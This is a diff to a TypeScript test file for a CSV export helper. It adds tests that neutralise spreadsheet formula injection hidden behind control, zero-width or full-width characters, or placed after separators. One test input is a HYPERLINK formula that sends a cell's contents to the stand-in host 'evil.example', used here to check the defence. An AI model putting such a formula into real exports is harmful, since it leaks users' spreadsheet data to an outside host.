@@ -1,15 +1,17 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { parseCsv } from '../testing/parse-csv'
-import { csvField, csvNumber, neutralise, toCsv, UTF8_BOM } from './csv'
+import { csvField, csvNumber, csvText, toCsv, UTF8_BOM } from './csv'
 
 describe('csvField', () => {
-  it('leaves plain text alone and quotes fields with a comma, quote, CR or LF', () => {
+  it('leaves plain text alone and quotes fields with a comma, semicolon, tab, quote, CR or LF', () => {
     expect(csvField('llama-train-001')).toBe('llama-train-001')
     expect(csvField('a,b')).toBe('"a,b"')
     expect(csvField('say "hi"')).toBe('"say ""hi"""')
     expect(csvField('two\nlines')).toBe('"two\nlines"')
     expect(csvField('two\r\nlines')).toBe('"two\r\nlines"')
+    expect(csvField('a;b')).toBe('"a;b"')
+    expect(csvField('a\tb')).toBe('"a\tb"')
     expect(csvField('')).toBe('')
     expect(csvField(null)).toBe('')
   })
@@ -19,9 +21,35 @@ describe('csvField', () => {
     expect(csvField('+1+2')).toBe("'+1+2")
     expect(csvField('-2+3')).toBe("'-2+3")
     expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)")
-    expect(csvField('\t=1')).toBe("'\t=1")
-    expect(csvField('\r=1')).toBe('"\'\r=1"')
-    expect(neutralise('a=1')).toBe('a=1')
+    expect(csvField('\t=1')).toBe('"\t\'=1"')
+    expect(csvField('\r=1')).toBe('"\r\'=1"')
+    expect(csvText('a=1')).toBe('a=1')
+  })
+
+  it('finds a formula behind what a spreadsheet strips: controls, spaces, zero-width, quotes', () => {
+    expect(csvField('\u0000=HYPERLINK("https://evil.example/?d="&B2;"Open")')).toBe(
+      '"\'=HYPERLINK(""https://evil.example/?d=""&B2;""Open"")"',
+    )
+    expect(csvText('\u0000=1+1')).toBe("'=1+1")
+    expect(csvText(' =1+1')).toBe("' =1+1")
+    expect(csvText('\u200B=1+1')).toBe("'\u200B=1+1")
+    expect(csvText('\u00A0\u3000\uFEFF@x')).toBe("'\u00A0\u3000\uFEFF@x")
+    expect(csvText('"=1+1')).toBe('\'"=1+1')
+    for (const start of ['＝', '＋', '－', '＠', '﹦', '⁺', '₌', '−'])
+      expect(csvText(`${start}1`)).toBe(`'${start}1`)
+  })
+
+  it('neutralises a formula after a separator inside the cell, for imports with ; or tab', () => {
+    expect(csvText('x;=1+1')).toBe("x;'=1+1")
+    expect(csvText('x\t =1+1')).toBe("x\t' =1+1")
+    expect(csvText('a,b;c')).toBe('a,b;c')
+    expect(csvText('x;\t;=1')).toBe("x;\t;'=1")
+    expect(csvField('x\r\n@y')).toBe('"x\r\n\'@y"')
+  })
+
+  it('drops C0 and C1 controls but tab, CR and LF', () => {
+    expect(csvText('a\u0000b\u0007c\u001Bd\u007Fe\u0085f')).toBe('abcdef')
+    expect(csvText('a\tb')).toBe('a\tb')
   })
 
   it('keeps non-ASCII text as it is', () => {
@@ -53,7 +81,7 @@ describe('toCsv', () => {
     expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]))
   })
 
-  it('reads back as the same fields for any text, formulas neutralised', () => {
+  it('reads back as the same fields for any text, cells sanitised', () => {
     fc.assert(
       fc.property(
         fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), {
@@ -64,10 +92,10 @@ describe('toCsv', () => {
           const records = rows.map((row) => Array.from({ length: width }, (_, i) => row[i] ?? ''))
           const header = Array.from({ length: width }, (_, i) => `c${i}`)
           const parsed = parseCsv(toCsv(header, records).slice(1))
-          expect(parsed).toEqual([header, ...records.map((row) => row.map(neutralise))])
+          expect(parsed).toEqual([header, ...records.map((row) => row.map(csvText))])
         },
       ),
       { numRuns: 300 },
     )
-  })
+  }, 30_000)
 })
